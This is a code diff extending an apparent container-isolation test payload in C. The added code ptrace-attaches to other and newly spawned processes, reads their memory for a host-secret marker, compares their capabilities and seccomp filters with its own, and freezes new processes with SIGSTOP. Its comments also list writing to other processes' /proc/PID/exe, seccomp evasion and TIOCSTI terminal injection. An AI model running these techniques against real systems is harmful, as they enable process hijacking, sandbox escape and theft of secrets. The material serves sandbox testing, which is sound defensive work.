@@ -4,8 +4,12 @@
  *
  *   payload exe [SEIZE]	until /stop exists: opens /proc/PID/exe of all other processes, for
  *			writing and by way of a fd held longer than the process lives; with SEIZE
- *			it also attaches to them by ptrace and reads /proc/PID/fd and environ.
- *			Then prints what it has counted.
+ *			it also attaches to them by ptrace, to new ones as fast as it can, and
+ *			reads /proc/PID/fd, environ, mem and status. Then prints what it has
+ *			counted: seized processes that ran the runtime; of these fds above 2
+ *			(beyond), host secrets in memory, more rights than its own (stronger),
+ *			no filter where it has one itself (unfiltered).
+ *   payload stop	stops (SIGSTOP) each new process as soon as there is one
  *   payload syscalls	calls each system call of a table; prints "NAME ERRNO" for each
  *   payload compat	AF_ALG and other ways around a filter: int 0x80, x32
  *   payload sti TEXT	pushes TEXT into each terminal that it can reach (TIOCSTI)
@@ -42,7 +46,8 @@
 /* ---- other processes ---- */
 
 static struct {
-	unsigned long looked, foreign, written, seized, listed, environ;
+	unsigned long looked, foreign, written, seized, listed, beyond, environ, memory, stronger,
+		unfiltered;
 } count;
 
 static struct stat known[3];
@@ -155,6 +160,7 @@ static void list_fds(int pid)
 		if (strncmp(target, "socket:", 7) != 0)
 			show_once("fd", target);
 		count.listed++;
+		count.beyond += atoi(de->d_name) > 2;
 	}
 	if (d)
 		closedir(d);
@@ -175,6 +181,65 @@ static void read_environ(int pid)
 		count.environ++;
 }
 
+/* Every byte that can be read. */
+static void search_memory(int pid)
+{
+	char path[64], line[512];
+	FILE *maps;
+	int mem;
+
+	snprintf(path, sizeof(path), "/proc/%d/mem", pid);
+	mem = open(path, O_RDONLY | O_CLOEXEC);
+	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
+	maps = fopen(path, "re");
+	while (mem >= 0 && maps && fgets(line, sizeof(line), maps)) {
+		unsigned long start, end;
+		char *text;
+		ssize_t n;
+
+		if (sscanf(line, "%lx-%lx", &start, &end) != 2 || end - start > 64u << 20)
+			continue;
+		text = malloc(end - start);
+		n = pread(mem, text, end - start, (off_t)start);
+		if (n > 0 && memmem(text, (size_t)n, "HOST_SECRET", 11)) {
+			show_once("memory", line);
+			count.memory++;
+		}
+		free(text);
+	}
+	if (maps)
+		fclose(maps);
+	if (mem >= 0)
+		close(mem);
+}
+
+static unsigned long long status_of(const char *who, const char *field, int base)
+{
+	char path[64], line[256];
+	unsigned long long value = 0;
+	FILE *f;
+
+	snprintf(path, sizeof(path), "/proc/%s/status", who);
+	f = fopen(path, "re");
+	while (f && fgets(line, sizeof(line), f))
+		if (strncmp(line, field, strlen(field)) == 0)
+			value = strtoull(line + strlen(field), NULL, base);
+	if (f)
+		fclose(f);
+	return value;
+}
+
+static void compare_rights(int pid)
+{
+	char who[16];
+
+	snprintf(who, sizeof(who), "%d", pid);
+	if (status_of(who, "CapPrm:", 16) & ~status_of("self", "CapPrm:", 16))
+		count.stronger++;
+	if (status_of(who, "Seccomp:", 10) < status_of("self", "Seccomp:", 10))
+		count.unfiltered++;
+}
+
 static void attack_ptrace(int pid)
 {
 	char path[64];
@@ -189,8 +254,17 @@ static void attack_ptrace(int pid)
 		count.seized++;
 		list_fds(pid);
 		read_environ(pid);
+		search_memory(pid);
+		compare_rights(pid);
 	}
 	ptrace(PTRACE_DETACH, pid, NULL, NULL);
+}
+
+/* Pids are given out in turn: the one that joins next will have one of these. */
+static void attack_next(int highest)
+{
+	for (int i = 0; i < 3000; i++)
+		attack_ptrace(highest + 1 + i % 3);
 }
 
 static void exe_loop(bool seize)
@@ -203,10 +277,12 @@ static void exe_loop(bool seize)
 	while (access("/stop", F_OK) < 0) {
 		DIR *d = opendir("/proc");
 		struct dirent *de;
+		int highest = 0;
 
 		while (d && (de = readdir(d))) {
 			int pid = atoi(de->d_name);
 
+			highest = pid > highest ? pid : highest;
 			if (pid <= 0 || pid == getpid())
 				continue;
 			if (attack_exe(pid)) {
@@ -219,9 +295,24 @@ static void exe_loop(bool seize)
 		if (d)
 			closedir(d);
 		try_held();
+		if (seize)
+			attack_next(highest);
 	}
 	printf("foreign %lu\nwritten %lu\nseized %lu\nlisted %lu\nenviron %lu\n", count.foreign,
 	       count.written, count.seized, count.listed, count.environ);
+	printf("beyond %lu\nmemory %lu\nstronger %lu\nunfiltered %lu\n", count.beyond, count.memory,
+	       count.stronger, count.unfiltered);
+}
+
+static void stop_loop(void)
+{
+	int next = getpid() + 1;
+
+	puts("ready");
+	fflush(stdout);
+	for (;;)
+		if (kill(next, SIGSTOP) == 0)
+			next++;
 }
 
 /* ---- system calls ---- */
@@ -384,6 +475,8 @@ int main(int argc, char **argv)
 	}
 	if (strcmp(what, "exe") == 0)
 		exe_loop(argc > 2);
+	else if (strcmp(what, "stop") == 0)
+		stop_loop();
 	else if (strcmp(what, "syscalls") == 0)
 		table();
 	else if (strcmp(what, "compat") == 0)
